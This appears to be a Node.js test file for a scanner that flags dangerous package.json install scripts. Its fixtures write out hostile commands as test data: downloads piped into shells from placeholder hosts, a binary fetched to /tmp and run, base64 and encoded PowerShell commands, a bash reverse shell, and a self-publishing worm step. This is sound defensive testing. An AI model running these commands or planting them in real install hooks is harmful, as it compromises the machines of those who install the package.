// Install scripts in package.json: downloads piped into shells, downloaded programs run, encoded
// commands are findings on the script's line; native builds and hook set-up are not.
'use strict';
const test = require('node:test');
const assert = require('node:assert/strict');
const { checkInstallScripts } = require('../../../server/dist/core/supply/install-scripts.js');

function pkg(scripts) {
  return `{\n  "name": "x",\n  "version": "1.0.0",\n  "scripts": {\n${Object.entries(scripts).map(([k, v]) => `    ${JSON.stringify(k)}: ${JSON.stringify(v)}`).join(',\n')}\n  }\n}\n`;
}
const lineOf = (text, offset) => text.slice(0, offset).split('\n').length;

const FLAGGED = {
  'curl piped into sh': 'curl -s https://x.example/i.sh | sh',
  'wget piped into bash': 'wget -qO- https://x.example/i.sh | bash',
  'a downloaded binary run': 'wget -q http://192.0.2.9/m -O /tmp/.m && chmod +x /tmp/.m && /tmp/.m',
  'curl to a file then run': 'curl -s https://x.example/b -o b; ./b',
  'a base64-encoded command': 'echo Y3VybCBodHRwOi8veC5leGFtcGxlIHwgc2g= | base64 -d | sh',
  'an encoded PowerShell command': 'powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=',
  'a reverse shell': 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1',
  'a worm publishing itself': 'npm publish --access public',
};
for (const [name, command] of Object.entries(FLAGGED)) {
  test(`postinstall with ${name} is a finding on its line`, () => {
    const text = pkg({ test: 'node --test', postinstall: command });
    const r = checkInstallScripts(text);
    assert.equal(r.findings.length, 1, JSON.stringify(r));
    const f = r.findings[0];
    assert.equal(f.ruleId, 'install-script');
    assert.equal(lineOf(text, f.span.start), 6);
    assert.match(f.message, /postinstall/);
    assert.match(f.message, /\(CWE-506\)$/);
  });
}

const ORDINARY = ['node-gyp rebuild', 'node-gyp-build', 'prebuild-install -r napi || node-gyp rebuild', 'husky install', 'husky', 'tsc -p .', 'patch-package', 'node-pre-gyp install --fallback-to-build'];
for (const command of ORDINARY) {
  test(`"${command}" at install is not a finding`, () => {
    for (const hook of ['preinstall', 'install', 'postinstall', 'prepare']) {
      assert.deepEqual(checkInstallScripts(pkg({ [hook]: command })).findings, []);
    }
  });
}

test('scripts that are not run at install are not read', () => {
  assert.deepEqual(checkInstallScripts(pkg({ deploy: 'curl -s https://x.example/i.sh | sh' })).findings, []);
});

test('node files the lifecycle scripts run are returned for analysis, with the main entry', () => {
  const r = checkInstallScripts(JSON.stringify({ main: 'lib/index.js', scripts: { preinstall: 'start /B node preinstall.js & node preinstall.js', postinstall: 'node ./scripts/setup.js && husky install', test: 'node test.js' } }));
  assert.deepEqual(r.files, ['preinstall.js', 'scripts/setup.js']);
  assert.equal(r.main, 'lib/index.js');
  assert.deepEqual(r.findings, []);
});

test('a broken package.json is an error, not a throw', () => {
  const r = checkInstallScripts('{ "scripts": ');
  assert.match(r.error, /not valid JSON/);
  assert.deepEqual(r.findings, []);
});
